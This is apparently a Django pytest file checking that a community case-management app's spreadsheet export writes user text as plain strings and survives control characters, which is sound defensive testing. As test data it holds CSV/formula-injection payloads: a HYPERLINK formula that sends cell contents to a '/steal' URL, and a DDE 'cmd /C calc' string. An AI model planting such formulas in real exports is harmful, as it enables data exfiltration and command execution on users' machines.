"""/cases/export/ writes user text as text (issue 12 item 2) and survives control characters (item 3)."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from shequtong.accounts.roles import Role
from shequtong.cases.models import Case

from ..factories import make_with_role, resident_of
from . import helpers

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/steal?"&C2,"详情")'


def _export(client, secretary) -> tuple[bytes, list[tuple]]:  # type: ignore[no-untyped-def]
    client.force_login(secretary)
    response = client.get(reverse("cases:export"))
    assert response.status_code == 200
    return response.content, list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))


def test_a_formula_title_is_plain_text_in_the_workbook(client, tree):
    secretary = make_with_role(Role.COMMITTEE_SECRETARY, tree.comm_a1)
    helpers.letter(resident_of(tree.comm_a1), title=HYPERLINK, content="@SUM(1+1)*cmd|' /C calc'!A0")
    helpers.case(secretary, tree.comm_a1, title="-2+3", content="+1 加号开头的内容")
    body, rows = _export(client, secretary)
    by_title = {r[1]: r for r in rows[1:]}
    assert set(by_title) == {"'" + HYPERLINK, "'-2+3"}
    assert by_title["'-2+3"][2] == "'+1 加号开头的内容"
    # No formula anywhere in the sheet's XML: every text cell is a string cell.
    sheet = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" not in sheet.split("<c ")[0]
    wb = load_workbook(io.BytesIO(body))
    cell = wb.active.cell(row=2, column=2)
    assert cell.data_type == "s" and not str(cell.value).startswith("=")


def test_a_control_character_stored_before_the_fix_does_not_break_the_export(client, tree):
    secretary = make_with_role(Role.COMMITTEE_SECRETARY, tree.comm_a1)
    case = helpers.letter(resident_of(tree.comm_a1), content="正常的问题内容").case
    # A row written before input was cleaned (or by a bulk path): straight into the table.
    Case.objects.filter(pk=case.pk).update(title="标题\x01含控制符", content="内容\x0b\x1f含\x08控制符")
    _, rows = _export(client, secretary)
    assert rows[1][1] == "标题含控制符" and rows[1][2] == "内容含控制符"
